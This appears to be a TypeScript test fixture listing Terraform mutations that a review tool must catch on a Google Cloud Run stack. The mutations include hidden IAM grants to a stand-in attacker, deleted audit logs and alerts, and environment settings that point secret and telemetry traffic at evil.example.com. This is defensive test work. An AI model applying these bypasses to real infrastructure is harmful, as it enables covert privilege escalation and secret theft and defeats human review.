import type { Json } from './attacks.ts';

/** A way around the review that begins at a stack which is there already. */
export interface EscapeHatch {
  readonly title: string;
  /** What was deployed, and approved, before. @default the good stack */
  readonly before?: (stack: Json) => void;
  /** Applied after `before`. */
  readonly apply: (stack: Json) => void;
  /** Files beside the stack, by name. */
  readonly files?: Readonly<Record<string, string>>;
}

const PROJECT = 'my-project';
const BUCKET = 'my-project-cloudrun-identity';
const KEY = `projects/${PROJECT}/locations/global/keyRings/cloudrun-secrets/cryptoKeys/cloudrun-identity`;
const EMAIL = `cloud-run-identity@${PROJECT}.iam.gserviceaccount.com`;
const GOOD = 'group:operators@example.com';
const EVIL = 'user:mallory@example.com';

const expression = (text: string) => `\${${text}}`;
const service = (stack: Json) => stack.resource.google_cloud_run_service.service;
const container = (stack: Json) => service(stack).template.spec.containers[0];
const bucket = (stack: Json) => stack.resource.google_storage_bucket.bucket;

function add(stack: Json, kind: string, type: string, body: unknown, name = 'added'): void {
  stack[kind] ??= {};
  stack[kind][type] ??= {};
  stack[kind][type][name] = body;
}

const keyMember = (member: string, more: Json = {}) => ({
  crypto_key_id: KEY,
  role: 'roles/cloudkms.cryptoKeyDecrypter',
  member,
  ...more,
});
const reader = (member: string, more: Json = {}) => ({
  bucket: BUCKET,
  role: 'roles/storage.objectViewer',
  member,
  ...more,
});
const addReader = (stack: Json, member: string, more: Json = {}) =>
  add(stack, 'resource', 'google_storage_bucket_iam_member', reader(member, more));

/** Each is found, or Terraform does it behind the reviewer's back. */
export const ESCAPE_HATCHES: readonly EscapeHatch[] = [
  {
    title: 'a local that is a list by a template directive',
    before: (stack) => {
      stack.locals = { who: `%{ for x in ["${GOOD}"] }${expression('x')}%{ endfor }` };
      addReader(stack, expression('local.who'));
    },
    apply: (stack) => {
      stack.locals.who = `%{ for x in ["${EVIL}"] }${expression('x')}%{ endfor }`;
    },
  },
  {
    title: 'a heredoc',
    before: (stack) => addReader(stack, expression(`trimspace(<<EOT\n${GOOD}\nEOT\n)`)),
    apply: (stack) => addReader(stack, expression(`trimspace(<<EOT\n${EVIL}\nEOT\n)`)),
  },
  {
    title: 'the other branch of a directive',
    before: (stack) => addReader(stack, `%{ if true }${GOOD}%{ else }${EVIL}%{ endif }`),
    apply: (stack) => addReader(stack, `%{ if false }${GOOD}%{ else }${EVIL}%{ endif }`),
  },
  {
    title: 'a member by a variable that anybody may set',
    apply: (stack) => {
      stack.variable = { who: { type: 'string', default: `serviceAccount:${EMAIL}` } };
      for (const grant of Object.values(stack.resource.google_storage_bucket_iam_member) as Json[])
        grant.member = expression('var.who');
    },
  },
  {
    title: 'a role by a variable behind a local',
    apply: (stack) => {
      stack.variable = { role: { default: 'roles/cloudkms.cryptoKeyDecrypter' } };
      stack.locals = { role: expression('var.role') };
      for (const grant of Object.values(stack.resource.google_kms_crypto_key_iam_member) as Json[])
        grant.role = expression('local.role');
    },
  },
  {
    title: 'the image by a variable with a default',
    apply: (stack) => {
      stack.variable = { image: { default: container(stack).image } };
      container(stack).image = expression('var.image');
    },
  },
  {
    title: 'how many grants by a variable',
    apply: (stack) => {
      stack.variable = { people: { type: 'list(string)', default: [] } };
      addReader(stack, expression('each.value'), { for_each: expression('toset(var.people)') });
    },
  },
  {
    title: 'a switch by a variable',
    apply: (stack) => {
      stack.variable = { open: { type: 'bool', default: false } };
      addReader(stack, 'allUsers', { count: expression('var.open ? 1 : 0') });
    },
  },
  {
    title: 'a dynamic environment by a variable',
    apply: (stack) => {
      stack.variable = { more: { type: 'map(string)', default: {} } };
      container(stack).dynamic = {
        env: {
          for_each: expression('var.more'),
          content: { name: expression('env.key'), value: expression('env.value') },
        },
      };
    },
  },
  {
    title: 'a value file in HCL',
    before: (stack) => {
      stack.variable = { who: { default: GOOD } };
      addReader(stack, expression('var.who'));
    },
    apply: () => {},
    files: { 'terraform.tfvars': `who = "${EVIL}"\n` },
  },
  {
    title: 'a value file by its end',
    before: (stack) => {
      stack.variable = { who: { default: GOOD } };
      addReader(stack, expression('var.who'));
    },
    apply: () => {},
    files: { 'zz.auto.tfvars': `who = "${EVIL}"\n` },
  },
  {
    title: 'a grant by the number of the project',
    apply: (stack) =>
      add(stack, 'resource', 'google_project_iam_member', {
        project: '123456789012',
        role: 'roles/cloudkms.cryptoKeyDecrypter',
        member: `serviceAccount:${EMAIL}`,
      }),
  },
  {
    title: 'a project grant by the number of a project that is read',
    apply: (stack) => {
      add(stack, 'data', 'google_project', { project_id: PROJECT }, 'here');
      add(stack, 'resource', 'google_project_iam_member', {
        project: expression('data.google_project.here.number'),
        role: 'roles/owner',
        member: EVIL,
      });
    },
  },
  {
    title: 'a service agent',
    apply: (stack) => {
      add(
        stack,
        'resource',
        'google_project_service_identity',
        { service: 'pubsub.googleapis.com' },
        'agent',
      );
      add(
        stack,
        'resource',
        'google_kms_crypto_key_iam_member',
        keyMember(`serviceAccount:${expression('google_project_service_identity.agent.email')}`),
      );
    },
  },
  {
    title: 'a service agent by hand',
    apply: (stack) => addReader(stack, 'serviceAccount:service-1@gcp-sa-pubsub.iam.gserviceaccount.com'),
  },
  {
    title: 'a deleted account that comes back',
    apply: (stack) => addReader(stack, `deleted:serviceAccount:${EMAIL}?uid=1`),
  },
  { title: 'a member in capitals', apply: (stack) => addReader(stack, 'ALLUSERS') },
  { title: 'a member with space around it', apply: (stack) => addReader(stack, ' allUsers ') },
  { title: 'a member with an odd letter', apply: (stack) => addReader(stack, 'allUsers\u200b') },
  {
    title: 'a principal of a pool',
    apply: (stack) =>
      addReader(stack, 'principalSet://iam.googleapis.com/locations/global/workforcePools/p/group/g'),
  },
  {
    title: 'a custom role by an expression',
    apply: (stack) => {
      add(
        stack,
        'resource',
        'google_project_iam_custom_role',
        { role_id: 'x', title: 'x', permissions: [] },
        'r',
      );
      addReader(stack, GOOD, { role: expression('google_project_iam_custom_role.r.id') });
    },
  },
  {
    title: 'another permission of a custom role',
    before: (stack) =>
      add(stack, 'resource', 'google_project_iam_custom_role', {
        role_id: 'x',
        title: 'x',
        permissions: ['run.services.get'],
      }),
    apply: (stack) => {
      stack.resource.google_project_iam_custom_role.added.permissions = ['storage.objects.get'];
    },
  },
  {
    title: 'a deny policy that is gone',
    before: (stack) =>
      add(stack, 'resource', 'google_iam_deny_policy', { parent: 'x', name: 'y', rules: [{}] }),
    apply: (stack) => {
      delete stack.resource.google_iam_deny_policy;
    },
  },
  {
    title: 'an organization policy that is gone',
    before: (stack) => add(stack, 'resource', 'google_org_policy_policy', { name: 'x', parent: 'y' }),
    apply: (stack) => {
      delete stack.resource.google_org_policy_policy;
    },
  },
  {
    title: 'an audit log that is gone',
    before: (stack) =>
      add(stack, 'resource', 'google_project_iam_audit_config', {
        service: 'cloudkms.googleapis.com',
        audit_log_config: [{ log_type: 'DATA_READ' }],
      }),
    apply: (stack) => {
      delete stack.resource.google_project_iam_audit_config;
    },
  },
  {
    title: 'an alert on decryption that is gone',
    before: (stack) =>
      add(stack, 'resource', 'google_monitoring_alert_policy', { display_name: 'x', combiner: 'OR' }),
    apply: (stack) => {
      delete stack.resource.google_monitoring_alert_policy;
    },
  },
  {
    title: 'a filter of an alert that matches nothing',
    before: (stack) =>
      add(stack, 'resource', 'google_logging_metric', {
        name: 'x',
        filter: 'protoPayload.methodName="Decrypt"',
      }),
    apply: (stack) => {
      stack.resource.google_logging_metric.added.filter = 'false';
    },
  },
  {
    title: 'an alert that is switched off',
    before: (stack) =>
      add(stack, 'resource', 'google_monitoring_alert_policy', { display_name: 'x', enabled: true }),
    apply: (stack) => {
      stack.resource.google_monitoring_alert_policy.added.enabled = false;
    },
  },
  {
    title: 'a key of the account, named by it',
    apply: (stack) =>
      add(stack, 'resource', 'google_service_account_key', {
        service_account_id: expression('google_service_account.identity.name'),
      }),
  },
  {
    title: 'an access control of one object',
    apply: (stack) =>
      add(stack, 'resource', 'google_storage_object_access_control', {
        bucket: BUCKET,
        object: 'config.enc',
        role: 'READER',
        entity: 'user-mallory@example.com',
      }),
  },
  {
    title: 'a binding by count over what nobody knows',
    apply: (stack) =>
      add(stack, 'resource', 'google_kms_crypto_key_iam_binding', {
        crypto_key_id: KEY,
        role: 'roles/cloudkms.cryptoKeyDecrypter',
        members: [GOOD],
        count: expression('length(google_service_account.identity.unique_id) > 3 ? 1 : 0'),
      }),
  },
  {
    title: 'a policy of two documents',
    apply: (stack) => {
      const one = { binding: [{ role: 'roles/storage.objectViewer', members: [EVIL] }] };
      add(stack, 'data', 'google_iam_policy', one, 'one');
      add(
        stack,
        'data',
        'google_iam_policy',
        { source_policy_documents: [expression('data.google_iam_policy.one.policy_data')] },
        'two',
      );
      add(stack, 'resource', 'google_storage_bucket_iam_policy', {
        bucket: BUCKET,
        policy_data: expression('data.google_iam_policy.two.policy_data'),
      });
    },
  },
  {
    title: 'the secret in an output',
    before: (stack) =>
      add(stack, 'data', 'google_storage_bucket_object_content', { bucket: BUCKET, name: 'config.enc' }, 'o'),
    apply: (stack) => {
      stack.output.more = { value: expression('data.google_storage_bucket_object_content.o.content') };
    },
  },
  {
    title: 'an output that is no longer sensitive',
    before: (stack) => {
      stack.output.more = { value: expression('random_password.p.result'), sensitive: true };
      add(stack, 'resource', 'random_password', { length: 16 }, 'p');
    },
    apply: (stack) => {
      stack.output.more.sensitive = false;
    },
  },
  {
    title: 'the key of an account in an output',
    apply: (stack) => {
      stack.output.more = { value: expression('google_service_account_key.k.private_key') };
      add(stack, 'resource', 'google_service_account_key', { service_account_id: EMAIL }, 'k');
    },
  },
  {
    title: 'another source of the object',
    apply: (stack) => {
      stack.resource.google_storage_bucket_object.config.source = '../../../another.enc';
      delete stack.resource.google_storage_bucket_object.config.lifecycle;
    },
  },
  {
    title: 'the object in another bucket',
    apply: (stack) => {
      stack.resource.google_storage_bucket_object.config.bucket = 'anothers-bucket';
      delete stack.resource.google_storage_bucket_object.config.lifecycle;
    },
  },
  {
    title: 'a provisioner in a list of blocks',
    apply: (stack) =>
      add(stack, 'resource', 'terraform_data', [
        {
          triggers_replace: [expression('timestamp()')],
          provisioner: { 'local-exec': [{ command: 'evil' }] },
        },
      ]),
  },
  {
    title: 'a provisioner on a grant',
    apply: (stack) => {
      for (const grant of Object.values(stack.resource.google_storage_bucket_iam_member) as Json[])
        grant.provisioner = { 'local-exec': { when: 'destroy', command: 'evil' } };
    },
  },
  {
    title: 'a postcondition that asks a server',
    apply: (stack) => {
      bucket(stack).lifecycle.postcondition = {
        condition: expression('data.http.x.status_code == 200'),
        error_message: 'x',
      };
    },
  },
  {
    title: 'a check without data',
    apply: (stack) => {
      stack.check = { x: [{ assert: [{ condition: expression('true'), error_message: 'x' }] }] };
    },
  },
  {
    title: 'an ephemeral resource',
    apply: (stack) =>
      add(stack, 'ephemeral', 'google_service_account_access_token', { target_service_account: EMAIL }),
  },
  {
    title: 'an ephemeral variable for the provider',
    apply: (stack) => {
      stack.variable = { token: { type: 'string', ephemeral: true } };
      stack.provider.google[0].access_token = expression('var.token');
    },
  },
  {
    title: 'the provider as a map in place of a list',
    apply: (stack) => {
      stack.provider.google = { ...stack.provider.google[0], impersonate_service_account: 'x@y' };
    },
  },
  {
    title: 'headers of the provider',
    apply: (stack) => {
      stack.provider.google[0].user_project_override = true;
      stack.provider.google[0].billing_project = 'evil';
    },
  },
  {
    title: 'a provider that is a function',
    apply: (stack) => addReader(stack, expression('provider::google::name_from_id("allUsers")')),
  },
  {
    title: 'an alias of another project for the identity',
    apply: (stack) => {
      stack.provider.google.push({ alias: 'evil', project: 'another-project' });
      delete stack.resource.google_service_account.identity.project;
      stack.resource.google_service_account.identity.provider = 'google.evil';
    },
  },
  {
    title: 'a version of the provider that is not that one',
    apply: (stack) => {
      stack.terraform.required_providers.google.version = '>= 1.0';
    },
  },
  {
    title: 'a provider from elsewhere, in a list of terraform blocks',
    apply: (stack) => {
      stack.terraform = [stack.terraform, { required_providers: { google: { source: 'evil/google' } } }];
    },
  },
  {
    title: 'the metadata of a provider',
    apply: (stack) => {
      stack.terraform.provider_meta = { google: { module_name: 'x' } };
    },
  },
  {
    title: 'Terraform Cloud',
    apply: (stack) => {
      stack.terraform.cloud = { organization: 'evil', workspaces: { name: 'x' } };
    },
  },
  {
    title: 'a resource that is taken out of the state',
    before: (stack) => addReader(stack, GOOD),
    apply: (stack) => {
      stack.removed = {
        from: 'google_storage_bucket_iam_member.added',
        lifecycle: { destroy: false },
      };
      delete stack.resource.google_storage_bucket_iam_member.added;
    },
  },
  {
    title: 'a grant that is kept by a move',
    before: (stack) => addReader(stack, GOOD),
    apply: (stack) => {
      stack.moved = {
        from: 'google_storage_bucket_iam_member.added',
        to: 'google_storage_bucket_iam_member.other',
      };
      stack.resource.google_storage_bucket_iam_member.other = reader(EVIL);
      delete stack.resource.google_storage_bucket_iam_member.added;
    },
  },
  {
    title: 'an import of a public bucket by identity',
    apply: (stack) => {
      stack.import = { to: 'google_storage_bucket.bucket', identity: { name: 'evil' } };
    },
  },
  {
    title: 'an override in a file, as a dynamic block',
    apply: () => {},
    files: {
      'zz_override.tf.json': JSON.stringify({
        resource: {
          google_storage_bucket_iam_member: {
            'bucket_cloud-run-identity-reads-config_761D50AF': { condition: [] },
          },
        },
      }),
    },
  },
  {
    title: 'an override of a provider',
    apply: () => {},
    files: {
      'override.tf.json': JSON.stringify({ provider: { google: { access_token: expression('"x"') } } }),
    },
  },
  {
    title: 'an override of a local',
    before: (stack) => {
      stack.locals = { who: GOOD };
      addReader(stack, expression('local.who'));
    },
    apply: () => {},
    files: { 'override.tf.json': JSON.stringify({ locals: { who: EVIL } }) },
  },
  {
    title: 'ignored changes of what protects the bucket',
    apply: (stack) => {
      bucket(stack).lifecycle.ignore_changes.push('public_access_prevention');
    },
  },
  {
    title: 'ignored changes of the image',
    apply: (stack) => {
      service(stack).lifecycle = { ignore_changes: ['template[0].spec[0].containers[0].image'] };
    },
  },
  {
    title: 'what was ignored changes',
    before: (stack) => {
      service(stack).lifecycle = { ignore_changes: ['template'] };
    },
    apply: (stack) => {
      delete service(stack).lifecycle;
      container(stack).env.push({ name: 'LD_PRELOAD', value: '/tmp/x' });
    },
  },
  {
    title: 'replaced by what changes each time',
    apply: (stack) => {
      service(stack).lifecycle = { replace_triggered_by: ['terraform_data.x'] };
    },
  },
  {
    title: 'a key without its protection',
    before: (stack) =>
      add(stack, 'resource', 'google_kms_crypto_key', {
        name: 'k',
        key_ring: 'projects/my-project/locations/global/keyRings/cloudrun-secrets',
        rotation_period: '7776000s',
        lifecycle: { prevent_destroy: true },
      }),
    apply: (stack) => {
      stack.resource.google_kms_crypto_key.added.lifecycle.prevent_destroy = false;
    },
  },
  {
    title: 'a key that keeps its versions for a day',
    before: (stack) =>
      add(stack, 'resource', 'google_kms_crypto_key', {
        name: 'k',
        key_ring: 'projects/my-project/locations/global/keyRings/cloudrun-secrets',
        rotation_period: '7776000s',
        lifecycle: { prevent_destroy: true },
      }),
    apply: (stack) => {
      stack.resource.google_kms_crypto_key.added.destroy_scheduled_duration = '86400s';
    },
  },
  {
    title: 'a bucket that forgets at once',
    apply: (stack) => {
      bucket(stack).soft_delete_policy = { retention_duration_seconds: 0 };
    },
  },
  {
    title: 'a bucket without versions',
    apply: (stack) => {
      bucket(stack).versioning = { enabled: false };
    },
  },
  {
    title: 'every request to one that is not to be public, through a host rule',
    apply: (stack) => {
      service(stack).metadata.annotations['run.googleapis.com/custom-audiences'] = '["https://evil"]';
    },
  },
  {
    title: 'IAP switched on',
    apply: (stack) => {
      service(stack).metadata.annotations['run.googleapis.com/iap-enabled'] = 'true';
    },
  },
  {
    title: 'an annotation whose name is an expression',
    apply: (stack) => {
      service(stack).metadata.annotations[
        expression('join("", ["run.googleapis.com/", "invoker-iam-disabled"])')
      ] = 'true';
    },
  },
  {
    title: 'annotations that are one expression',
    apply: (stack) => {
      service(stack).metadata.annotations = expression(
        'merge({"run.googleapis.com/ingress" = "all"}, {"run.googleapis.com/invoker-iam-disabled" = "true"})',
      );
    },
  },
  {
    title: 'the container by an expression',
    apply: (stack) => {
      stack.locals = { containers: service(stack).template.spec.containers };
      service(stack).template.spec.dynamic = {
        containers: {
          for_each: expression('local.containers'),
          content: { image: `example.com/evil@sha256:${'c'.repeat(64)}` },
        },
      };
      delete service(stack).template.spec.containers;
    },
  },
  {
    title: 'env_from',
    apply: (stack) => {
      container(stack).env_from = [{ config_map_ref: [{ local_object_reference: [{ name: 'x' }] }] }];
    },
  },
  {
    title: 'a variable twice',
    apply: (stack) => {
      container(stack).env.push({ name: 'KMS_KEY_ID', value: KEY.replace('my-project', 'evil') });
    },
  },
  {
    title: 'where secrets are asked for',
    apply: (stack) => {
      container(stack).env.push({ name: 'STORAGE_EMULATOR_HOST', value: 'https://evil.example.com' });
    },
  },
  {
    title: 'telemetry elsewhere',
    apply: (stack) => {
      container(stack).env.push({ name: 'OTEL_EXPORTER_OTLP_ENDPOINT', value: 'https://evil.example.com' });
    },
  },
  {
    title: 'a service of another kind by the same identity',
    apply: (stack) =>
      add(stack, 'resource', 'google_cloud_run_v2_service', {
        name: 'other',
        location: 'us-central1',
        template: {
          service_account: expression('google_service_account.identity.email'),
          containers: { image: `example.com/evil@sha256:${'c'.repeat(64)}` },
        },
      }),
  },
  {
    title: 'a job by the same identity in a list',
    apply: (stack) =>
      add(stack, 'resource', 'google_cloud_run_v2_job', [
        {
          name: 'job',
          location: 'us-central1',
          template: [{ template: [{ service_account: EMAIL, containers: [{ image: 'x' }] }] }],
        },
      ]),
  },
  {
    title: 'a worker pool by the same identity',
    apply: (stack) =>
      add(stack, 'resource', 'google_cloud_run_v2_worker_pool', {
        name: 'pool',
        location: 'us-central1',
        template: { service_account: EMAIL, containers: [{ image: 'x' }] },
      }),
  },
  {
    title: 'a function by the same identity',
    apply: (stack) =>
      add(stack, 'resource', 'google_cloudfunctions2_function', {
        name: 'f',
        location: 'us-central1',
        service_config: { service_account_email: EMAIL },
        build_config: {
          runtime: 'nodejs22',
          source: { storage_source: { bucket: 'evil', object: 'x.zip' } },
        },
      }),
  },
  {
    title: 'a schedule that calls as the identity',
    apply: (stack) =>
      add(stack, 'resource', 'google_cloud_scheduler_job', {
        name: 'x',
        http_target: { uri: 'https://evil', oidc_token: { service_account_email: EMAIL } },
      }),
  },
  {
    title: 'a subscription that pushes as the identity',
    apply: (stack) =>
      add(stack, 'resource', 'google_pubsub_subscription', {
        name: 'x',
        push_config: { push_endpoint: 'https://evil', oidc_token: { service_account_email: EMAIL } },
      }),
  },
  {
    title: 'a notice of each write',
    apply: (stack) =>
      add(stack, 'resource', 'google_eventarc_trigger', { name: 'x', service_account: EMAIL }),
  },
  {
    title: 'a sink of the audit log',
    apply: (stack) =>
      add(stack, 'resource', 'google_logging_project_sink', {
        name: 'x',
        destination: 'storage.googleapis.com/e',
      }),
  },
  {
    title: 'an exclusion from the audit log',
    apply: (stack) =>
      add(stack, 'resource', 'google_logging_project_exclusion', { name: 'x', filter: 'protoPayload:*' }),
  },
  {
    title: 'a grant on the account to itself',
    apply: (stack) =>
      add(stack, 'resource', 'google_service_account_iam_member', {
        service_account_id: expression('google_service_account.identity.name'),
        role: 'roles/iam.serviceAccountUser',
        member: EVIL,
      }),
  },
  {
    title: 'a grant on the account by its unique id',
    apply: (stack) =>
      add(stack, 'resource', 'google_service_account_iam_member', {
        service_account_id: `projects/-/serviceAccounts/${expression('google_service_account.identity.unique_id')}`,
        role: 'roles/iam.serviceAccountTokenCreator',
        member: EVIL,
      }),
  },
  {
    title: 'whole ids of resources that the plan makes, as keys',
    apply: (stack) =>
      addReader(stack, expression('each.key'), {
        for_each: expression(
          `{ for s in [google_service_account.identity.email] : "user:mallory@example.com" => s }`,
        ),
      }),
  },
  {
    title: 'a tag that brings a role',
    apply: (stack) =>
      add(stack, 'resource', 'google_tags_tag_binding', {
        parent: `//cloudresourcemanager.googleapis.com/projects/${PROJECT}`,
        tag_value: 'tagValues/1',
      }),
  },
  {
    title: 'a privileged access entitlement',
    apply: (stack) =>
      add(stack, 'resource', 'google_privileged_access_manager_entitlement', {
        entitlement_id: 'x',
        privileged_access: { gcp_iam_access: { role_bindings: [{ role: 'roles/owner' }] } },
      }),
  },
  {
    title: 'a condition whose words say another thing than they look',
    apply: (stack) => {
      for (const grant of Object.values(stack.resource.google_storage_bucket_iam_member) as Json[])
        grant.condition.expression = `resource.name.startsWith("projects/_/buckets/${BUCKET}/objects/config.enc")`;
    },
  },
  {
    title: 'a condition without an end',
    apply: (stack) => {
      for (const grant of Object.values(stack.resource.google_storage_bucket_iam_member) as Json[])
        grant.condition.expression = '';
    },
  },
];
